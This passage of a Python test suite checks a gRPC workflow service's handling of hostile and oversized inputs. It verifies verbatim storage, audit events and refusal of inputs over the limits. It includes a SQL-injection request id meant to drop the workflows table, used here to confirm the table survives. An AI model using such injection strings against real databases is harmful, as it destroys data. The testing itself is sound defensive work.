    submitter = hs_token(keys, "submitter", "t1", sub=nasty_sub)
    viewer = hs_token(keys, "viewer", "t1")
    cap = "cap-hostile-" + uuid.uuid4().hex[:6]
    request_id = "x';DROP/**/TABLE/**/workflows;--" + uuid.uuid4().hex[:8]
    labels = {f"k{i}-{s[:40]}": s for i, s in enumerate(HOSTILE)}
    inputs = {f"in{i}-{s[:40]}": s for i, s in enumerate(HOSTILE)}
    tasks = []
    for i, s in enumerate(HOSTILE):
        short = s[:2000]
        tasks.append(pb.dag.TaskSpec(
            key=f"t{i}", name=short, description=s, required_capabilities=[cap], inputs=[short], outputs=[short + "!"],
            labels={short[:100]: short}, payload=s.encode(), resources=pb.dag.Resources(custom={short[:100]: 2.0})))
    constraints = pb.query.Constraints(forbidden_capabilities=[s[:1000] for s in HOSTILE])
    query = pb.query.Query(text="\n".join(HOSTILE), inputs=inputs, labels=labels, constraints=constraints,
                           graph=pb.dag.Dag(tasks=tasks))
    response = hs.call("SubmitQuery", pb.workflows.SubmitQueryRequest(request_id=request_id, query=query), submitter)
    workflow_id = response.workflow.workflow_id
    assert response.created

    workflow = hs.call("GetWorkflow", pb.workflows.GetWorkflowRequest(workflow_id=workflow_id, include_tasks=True), viewer).workflow
    assert workflow.request_id == request_id
    assert workflow.submitted_by == nasty_sub
    assert workflow.query.text == query.text
    assert dict(workflow.query.inputs) == inputs and dict(workflow.query.labels) == labels and dict(workflow.labels) == labels
    # A set: the server keeps it sorted; every value verbatim.
    assert sorted(workflow.query.constraints.forbidden_capabilities) == sorted(constraints.forbidden_capabilities)
    dag = hs.call("GetDag", pb.workflows.GetDagRequest(workflow_id=workflow_id), viewer).dag
    by_key = {t.key: t for t in dag.tasks}
    for sent in tasks:
        got = by_key[sent.key]
        assert (got.name, got.description, list(got.inputs), list(got.outputs), got.payload) == \
            (sent.name, sent.description, list(sent.inputs), list(sent.outputs), sent.payload), sent.key
        # The workflow's labels are merged into each task's; the task's own ones come back as sent.
        assert dict(sent.labels).items() <= dict(got.labels).items(), sent.key
        assert dict(got.resources.custom) == dict(sent.resources.custom), sent.key

    # Byte-for-byte in the database too (hex, so psql's output cannot blur anything).
    stored = psql(database, f"SELECT encode(convert_to(text, 'UTF8'), 'hex'), request_id, submitted_by FROM queries q "
                            f"JOIN workflows w ON w.id = q.workflow_id WHERE q.workflow_id = '{workflow_id}'")
    assert stored[0][0] == hex_of(query.text) and stored[0][1] == request_id and stored[0][2] == nasty_sub
    assert int(psql(database, "SELECT count(*) FROM pg_tables WHERE tablename = 'workflows'")[0][0]) == 1

    # A label filter with a hostile value finds exactly this workflow.
    listed = hs.call("ListWorkflows", pb.workflows.ListWorkflowsRequest(labels={"k0-" + HOSTILE[0][:40]: HOSTILE[0]}), viewer)
    assert [w.workflow_id for w in listed.workflows] == [workflow_id]

    # The executor side: assignment fields, failure messages and codes, progress messages.
    executor = hs_token(keys, "executor", "t1", sub=HOSTILE[1])
    polled = hs.call("PollTasks", pb.executors.PollTasksRequest(executor_id=HOSTILE[3][:100], capabilities=[cap], max_tasks=1,
                                                                wait_ms=5000), executor)
    assignment = polled.assignments[0]
    sent = by_key[assignment.spec.key]
    assert assignment.spec.payload == sent.payload and assignment.spec.description == sent.description
    assert dict(assignment.inputs) == inputs
    hs.call("ReportStatus", pb.executors.ReportStatusRequest(executor_id=HOSTILE[3][:100], progress=pb.executors.TaskProgress(
        lease=assignment.lease, fraction=0.5, message=HOSTILE[5])), executor)
    hs.call("ReportStatus", pb.executors.ReportStatusRequest(executor_id=HOSTILE[3][:100], failure=pb.executors.TaskFailure(
        lease=assignment.lease, message=HOSTILE[7], code=HOSTILE[4], retryable=False)), executor)
    failed = hs.call("GetWorkflow", pb.workflows.GetWorkflowRequest(workflow_id=workflow_id, include_tasks=True), viewer).workflow
    task = next(t for t in failed.tasks if t.spec.key == assignment.spec.key)
    assert (task.last_error.message, task.last_error.code) == (HOSTILE[7], HOSTILE[4])

    # The audit trail returns it all verbatim, and finds the hostile subjects.
    events = hs.call("ListEvents", pb.workflows.ListEventsRequest(workflow_id=workflow_id, page_size=1000), viewer).events
    messages = {(pb.workflow.EventType.Name(e.type), e.message) for e in events}
    assert ("EVENT_TYPE_TASK_PROGRESS", HOSTILE[5]) in messages and ("EVENT_TYPE_TASK_FAILED", HOSTILE[7]) in messages
    by_sub = hs.call("ListEvents", pb.workflows.ListEventsRequest(actor_subject=nasty_sub, page_size=1000), viewer).events
    assert by_sub and all(e.actor.subject == nasty_sub for e in by_sub)
    assert {e.workflow_id for e in by_sub} == {workflow_id}
    by_executor = hs.call("ListEvents", pb.workflows.ListEventsRequest(actor_subject=HOSTILE[1], page_size=1000), viewer).events
    assert {pb.workflow.EventType.Name(e.type) for e in by_executor} >= {"EVENT_TYPE_TASK_LEASED", "EVENT_TYPE_TASK_FAILED"}
    # The executor id the server records is the token's tenant and subject and the id sent, verbatim.
    assert {e.executor_id for e in by_executor if e.executor_id} == {f"t1/{HOSTILE[1]}/{HOSTILE[3][:100]}"}


def test_hostile_reasons_on_cancel_and_update_are_verbatim(hs, pb, keys):
    submitter = hs_token(keys, "submitter", "t1")
    cap = "cap-reason-" + uuid.uuid4().hex[:6]
    workflow_id = hs.call("SubmitQuery", pb.workflows.SubmitQueryRequest(query=pb.query.Query(graph=pb.dag.Dag(tasks=[
        pb.dag.TaskSpec(key="a", required_capabilities=[cap])]))), submitter).workflow.workflow_id
    reason = "\n".join(HOSTILE[:-1])
    hs.call("UpdateDag", pb.workflows.UpdateDagRequest(workflow_id=workflow_id, expected_version=1, reason=reason,
                                                       add_tasks=[pb.dag.TaskSpec(key="b", depends_on=["a"])]), submitter)
    versions = hs.call("GetDag", pb.workflows.GetDagRequest(workflow_id=workflow_id), submitter).versions
    assert versions[-1].reason == reason
    cancelled = hs.call("CancelWorkflow", pb.workflows.CancelWorkflowRequest(workflow_id=workflow_id, reason=reason), submitter)
    assert cancelled.workflow.error == reason
    events = hs.call("ListEvents", pb.workflows.ListEventsRequest(
        workflow_id=workflow_id, types=[pb.workflow.EventType.Value("EVENT_TYPE_WORKFLOW_CANCELLED")]), submitter).events
    assert [e.message for e in events] == [reason]


@pytest.mark.parametrize("case", ["task key", "dependency", "request id (non-ASCII)", "request id (space)"])
def test_hostile_strings_where_the_contract_restricts_them_are_invalid(hs, pb, database, keys, case):
    submitter = hs_token(keys, "submitter", "t1")
    good = pb.dag.TaskSpec(key="ok", required_capabilities=["c"])
    request = pb.workflows.SubmitQueryRequest(query=pb.query.Query(graph=pb.dag.Dag(tasks=[good])))
    if case == "task key":
        request.query.graph.tasks.append(pb.dag.TaskSpec(key=HOSTILE[0]))
    elif case == "dependency":
        request.query.graph.tasks.append(pb.dag.TaskSpec(key="d", depends_on=[HOSTILE[0]]))
    elif case == "request id (non-ASCII)":
        request.request_id = "idé-" + HOSTILE[8][:20]
    else:
        request.request_id = "a b"
    refused(database, grpc.StatusCode.INVALID_ARGUMENT, lambda: hs.call("SubmitQuery", request, submitter), case)


# -- oversized input --------------------------------------------------------------------------------------


def test_oversized_inputs_are_refused_and_store_nothing(hs, pb, database, keys):
    submitter = hs_token(keys, "submitter", "t1")
    executor = hs_token(keys, "executor", "t1")

    def submit(query, **fields):
        return lambda: hs.call("SubmitQuery", pb.workflows.SubmitQueryRequest(query=query, **fields), submitter, timeout=120)

    # A message above the 4 MiB receive limit.
    refused(database, grpc.StatusCode.RESOURCE_EXHAUSTED, submit(pb.query.Query(text="x" * (5 << 20))), "5 MiB query")
    # A string field longer than max-string-length (64 KiB), at the top and deep in a task.
    refused(database, grpc.StatusCode.INVALID_ARGUMENT, submit(pb.query.Query(text="x" * 70_000)), "70,000-byte query text",
            "max-string-length")
    refused(database, grpc.StatusCode.INVALID_ARGUMENT, submit(pb.query.Query(graph=pb.dag.Dag(tasks=[
        pb.dag.TaskSpec(key="d", description="d" * 70_000)]))), "70,000-byte task description", "max-string-length")
    # More tasks than a workflow may have (100,000), each tiny so the message stays under 4 MiB.
    many = pb.dag.Dag(tasks=[pb.dag.TaskSpec(key=f"t{i}") for i in range(100_001)])
    refused(database, grpc.StatusCode.INVALID_ARGUMENT, submit(pb.query.Query(graph=many)), "100,001 tasks", "100000")
    # A task carrying more labels than its 64 KiB metadata budget.
    fat = pb.dag.TaskSpec(key="fat", labels={f"l{i}": "v" * 1024 for i in range(80)})
    refused(database, grpc.StatusCode.INVALID_ARGUMENT, submit(pb.query.Query(graph=pb.dag.Dag(tasks=[fat]))), "fat task")
    # A key longer than 128 bytes, a request id longer than 128.
    refused(database, grpc.StatusCode.INVALID_ARGUMENT, submit(pb.query.Query(graph=pb.dag.Dag(tasks=[
        pb.dag.TaskSpec(key="k" * 129)]))), "long key")
    refused(database, grpc.StatusCode.INVALID_ARGUMENT, submit(pb.query.Query(text="x"), request_id="r" * 129), "long request id")
    # An executor advertising too many or too long capabilities, or too long an id.
    for name, request in {
        "300 capabilities": pb.executors.PollTasksRequest(executor_id="e", capabilities=[f"c{i}" for i in range(300)]),
        "long capability": pb.executors.PollTasksRequest(executor_id="e", capabilities=["c" * 200]),
        "long executor id": pb.executors.PollTasksRequest(executor_id="e" * 200, capabilities=["c"]),
    }.items():
        refused(database, grpc.StatusCode.INVALID_ARGUMENT, lambda: hs.call("PollTasks", request, executor), name)


def test_huge_metadata_is_refused_and_stores_nothing(hs, pb, database, keys):
    submitter = hs_token(keys, "submitter", "t1")
    request = pb.workflows.SubmitQueryRequest(query=pb.query.Query(graph=pb.dag.Dag(tasks=[pb.dag.TaskSpec(key="m")])))
    for metadata in ([("x-padding", "p" * (64 << 10))], [(f"x-h{i}", "v" * 100) for i in range(400)]):
        before = snapshot(database)
        with pytest.raises(grpc.RpcError) as caught:
            hs.call("SubmitQuery", request, submitter, metadata=metadata)
        # The header block is refused before any handler runs; gRPC clients see the reset stream as
        # RESOURCE_EXHAUSTED or INTERNAL depending on the reset code, never as success.
        assert caught.value.code() in (grpc.StatusCode.RESOURCE_EXHAUSTED, grpc.StatusCode.INTERNAL,
                                       grpc.StatusCode.UNAVAILABLE), caught.value
        assert_unchanged(database, before, f"{len(metadata)} metadata entries")
        # The server is still there for the next caller.
        hs.call("ListWorkflows", pb.workflows.ListWorkflowsRequest(page_size=1), submitter)
